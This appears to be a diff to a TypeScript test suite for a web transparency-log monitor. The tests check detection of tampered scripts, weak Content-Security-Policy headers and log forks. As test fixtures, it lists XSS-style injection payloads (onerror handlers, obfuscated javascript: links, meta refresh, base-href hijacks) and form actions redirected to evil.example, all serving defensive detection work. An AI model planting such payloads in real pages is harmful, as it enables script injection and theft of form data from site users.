@@ -8,9 +8,26 @@ import type { AddressInfo } from 'node:net';
 import { tmpdir } from 'node:os';
 import { join } from 'node:path';
 import { after, before, type TestContext, test } from 'node:test';
-import { formatCheckpoint, parseCheckpoint } from '@heed/ledger';
+import {
+  append,
+  ED25519,
+  emptyEdge,
+  formatCheckpoint,
+  formatEntries,
+  formatKey,
+  formatNote,
+  leafHash,
+  parseCheckpoint,
+  rootOfEdge,
+  signNote,
+} from '@heed/ledger';
 import { run } from '@heed/monitor';
 import { startWitness } from '@heed/server';
+import { findBreaks, readClear } from '../apps/monitor/src/clear.ts';
+import { emptyMemory, recall } from '../apps/monitor/src/memory.ts';
+import { readPage } from '../apps/monitor/src/page.ts';
+import { compareScripts } from '../apps/monitor/src/scripts.ts';
+import { ed25519Secret } from '../apps/server/src/ledger/log.ts';
 import { inventedLog } from '../apps/server/src/witness/invented-log.ts';
 import { type Ending, type InventedServer, startInvented } from './invented.ts';
 import { until } from './log.ts';
@@ -24,6 +41,8 @@ const ending: Ending = { after: (end) => void ends.unshift(end) };
 before(async () => {
   folder = mkdtempSync(join(tmpdir(), 'heed-monitor-'));
   place = await startInvented(ending, { tickSeconds: 1 });
+  // Every language would be looked at each time.
+  Object.assign(place.deployment.organisation(), { languages: ['en', 'hr'] });
   const { organisationKey, deskKeys } = await organisation();
   fingerprint = createHash('sha256').update(Buffer.from(organisationKey, 'hex')).digest('hex');
   assert.ok(deskKeys.length > 0);
@@ -74,8 +93,12 @@ async function changed(t: TestContext, change: Change) {
     const path = request.url ?? '';
     requests.push(`${request.method} ${path}`);
     const answer = await fetch(`${place.url}${path}`);
-    response.statusCode = answer.status;
-    response.end(await change(Buffer.from(await answer.arrayBuffer()), path));
+    const original = Buffer.from(await answer.arrayBuffer());
+    const body = await change(original, path);
+    response.statusCode = body === original ? answer.status : 200;
+    for (const name of ['content-type', 'content-security-policy'])
+      if (answer.headers.has(name)) response.setHeader(name, answer.headers.get(name)!);
+    response.end(body);
   });
   await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
   t.after(() => {
@@ -230,17 +253,153 @@ test('keys that the log or the fingerprint does not hold are told', async (t) =>
 });
 
 test('a script that was changed, stands in the page, or comes from elsewhere is told', async (t) => {
-  const cases: readonly Change[] = [
+  const good = /\/assets\/[\w.-]+\.js/.exec(await (await fetch(`${place.url}/report`)).text())![0];
+  const put =
+    (html: string, at = '/report'): Change =>
     (bytes, path) =>
+      path === at ? Buffer.from(bytes.toString().replace('</head>', `${html}</head>`)) : bytes;
+  const cases: Readonly<Record<string, Change>> = {
+    changed: (bytes, path) =>
       /\/assets\/report-seal.*js$/.test(path) ? Buffer.concat([bytes, Buffer.from(';')]) : bytes,
-    (bytes, path) => (path === '/' ? Buffer.concat([bytes, Buffer.from('<script>steal()</script>')]) : bytes),
-    (bytes, path) =>
-      path === '/report' ? Buffer.concat([bytes, Buffer.from('<script src=//x.example>')]) : bytes,
-  ];
-  for (const [n, change] of cases.entries()) {
+    worker: (bytes, path) => (path === '/desk/worker.js' ? Buffer.concat([bytes, Buffer.from(';')]) : bytes),
+    desk: put(`<script src="${good}"></script>`, '/desk'),
+    'data-src': put(`<script data-src="${good}" src="/evil.js"></script>`),
+    query: put(`<script src="${good}?x=1"></script>`),
+    climbs: put(`<script src="${good}/../../evil.js"></script>`),
+    encoded: put('<script src="/assets/%65vil.js"></script>'),
+    'other language': put('<script src="/evil.js"></script>', '/hr/return'),
+    deposit: put('<script src="/evil.js"></script>', '/deposit'),
+    form: (bytes, path) =>
+      path === '/hr/report'
+        ? Buffer.from(bytes.toString().replaceAll(/ action="/g, ' action="https://evil.example'))
+        : bytes,
+  };
+  assert.equal((await look(place.url, state('seen'))).code, 0);
+  const memory = recall(join(folder, 'seen'), place.url);
+  for (const [name, change] of Object.entries(cases)) {
     const { url } = await changed(t, change);
-    const result = await look(url, state(`script-${n}`));
-    assert.deepEqual([result.code, result.report.findings.length], [15, 1], `case ${n}`);
+    const findings = await compareScripts(url, memory);
+    assert.deepEqual([...new Set(findings.map(({ code }) => code))], ['unlogged-script'], name);
+  }
+  const { url } = await changed(t, cases.changed!);
+  const result = await look(url, state('script'));
+  assert.deepEqual([result.code, result.report.findings.length], [15, 1]);
+});
+
+test('a page is told whose policy or type would let a browser run something else', async () => {
+  const response = await fetch(`${place.url}/report`);
+  const bytes = new Uint8Array(await response.arrayBuffer());
+  const policy = response.headers.get('content-security-policy')!;
+  const faults = (name: string, value: string | null, page = bytes) => {
+    const headers = new Headers(response.headers);
+    if (value === null) headers.delete(name);
+    else headers.set(name, value);
+    return readPage({ url: response.url, headers, bytes: page }).faults.length;
+  };
+  assert.equal(faults('content-security-policy', policy), 0);
+  assert.equal(faults('content-security-policy', `default-src *, ${policy}`), 0, 'both hold');
+  for (const value of [
+    null,
+    "default-src 'none'",
+    policy.replace("script-src 'self'", "script-src 'self' 'unsafe-inline'"),
+    policy.replace("script-src 'self'", "script-src 'self' 'wasm-unsafe-eval'"),
+    `script-src *; ${policy}`,
+    `${policy}; script-src-elem *`,
+    policy.replace("base-uri 'none'", 'base-uri *'),
+    policy.replace(';', ','),
+  ])
+    assert.equal(faults('content-security-policy', value), 1, String(value));
+  for (const type of [null, 'text/html', 'application/xhtml+xml; charset=utf-8'])
+    assert.equal(faults('content-type', type), 1, String(type));
+  assert.equal(faults('refresh', '0; url=/e'), 1);
+  const text = Buffer.from(bytes).toString();
+  for (const html of [
+    '<script>steal()</script>',
+    '<script src="/assets/x.js">steal()</script>',
+    '<img src=x onerror="steal()">',
+    '<img/ONERROR="steal()">',
+    '<a href=" java\tscript:steal()">x</a>',
+    '<a href="data:text/html,x">x</a>',
+    '<iframe src="/e"></iframe>',
+    '<p srcdoc="x">',
+    '<object data="/e"></object>',
+    '<embed src="/e">',
+    '<svg><script href="/assets/x.js"></script></svg>',
+    '<svg><a><set attributeName="href"></set></a></svg>',
+    '<template><script>steal()</script></template>',
+    '<noscript><meta http-equiv=refresh content="0;url=/e"></noscript>',
+    '<meta http-equiv=" Refresh " content="0;url=/e">',
+    '<base href="/e/">',
+    '<link rel="prefetch" href="/e">',
+    '<button formaction="https://evil.example/">x</button>',
+    '<form action="//evil.example/"></form>',
+  ])
+    assert.equal(faults('x-none', null, Buffer.from(text.replace('</body>', `${html}</body>`))), 1, html);
+  const { files } = readPage({
+    url: response.url,
+    headers: response.headers,
+    bytes: Buffer.from(
+      `${text}<script/title=">"/src="/evil.js"></script><link rel=modulepreload href=/m.js>`,
+    ),
+  });
+  assert.deepEqual(
+    ['/evil.js', '/m.js'].map((path) => files.includes(`${place.url}${path}`)),
+    [true, true],
+  );
+  assert.equal(faults('x-none', null, Buffer.concat([Buffer.from([0xff, 0xfe]), bytes])), 1, 'UTF-16');
+});
+
+/** The site once a second log was begun; the first one stands still at `end`. Looks at it twice. */
+async function lookAtSecond(t: TestContext, name: string, end: string, entries: readonly string[]) {
+  const origin = 'second.example.org/log';
+  const key = { name: origin, ...ed25519Secret(new Uint8Array(32).fill(5)) };
+  const bytes = entries.map((entry) => Buffer.from(entry));
+  const { edge } = append(
+    emptyEdge,
+    bytes.map((entry) => leafHash(entry)),
+  );
+  const text = formatCheckpoint({ origin, size: entries.length, root: rootOfEdge(edge) });
+  let isBegun = false;
+  const { url } = await changed(t, (answer, path) => {
+    if (path === '/log/1/checkpoint') return Buffer.from(end);
+    if (path === '/log/2/checkpoint')
+      return Buffer.from(formatNote({ text, signatures: [signNote(text, key)] }));
+    if (path.startsWith('/log/2/tile/entries/')) return Buffer.from(formatEntries(bytes));
+    if (!isBegun || path !== '/api/organisation') return answer;
+    const served = JSON.parse(answer.toString());
+    served.logs.push({ origin, vkey: formatKey(origin, ED25519, key.publicKey) });
+    return Buffer.from(JSON.stringify(served));
+  });
+  assert.equal((await look(url, state(name))).codes, '');
+  isBegun = true;
+  const first = await look(url, state(name));
+  const second = await look(url, state(name));
+  assert.equal(second.report.logs[0]!.size, parseCheckpoint(end).size, 'the first one is remembered');
+  return [first.codes, second.codes];
+}
+
+test('another log is told once, and at each look where it does not continue what was seen', async (t) => {
+  const end = await checkpoint();
+  const older = place.deployment.log.signed(
+    formatCheckpoint({ ...parseCheckpoint(end), size: parseCheckpoint(end).size - 1 }),
+  ).note;
+  const fork = await forked(end);
+  const entry = (note: string) => ['some entry', `heed/continues/v1\n${note}`];
+  assert.deepEqual(await lookAtSecond(t, 'continued', end, entry(end)), ['new-log', '']);
+  const broken = ['inconsistent,new-log', 'inconsistent'];
+  assert.deepEqual(await lookAtSecond(t, 'without-entry', end, ['some entry']), broken);
+  // What is read of the second log, by itself.
+  const file = join(folder, 'without-entry');
+  const { logs } = recall(file, JSON.parse(readFileSync(file, 'utf8')).url);
+  for (const [note, count] of [
+    [older, 1],
+    [fork, 1],
+    ['', 1],
+    [end, 0],
+  ] as const) {
+    const memory = { ...emptyMemory(place.url), logs: [...logs] };
+    readClear([Buffer.from(`heed/continues/v1\n${note}`)], memory, 1);
+    assert.equal(findBreaks(memory.logs).length, count);
   }
 });
 
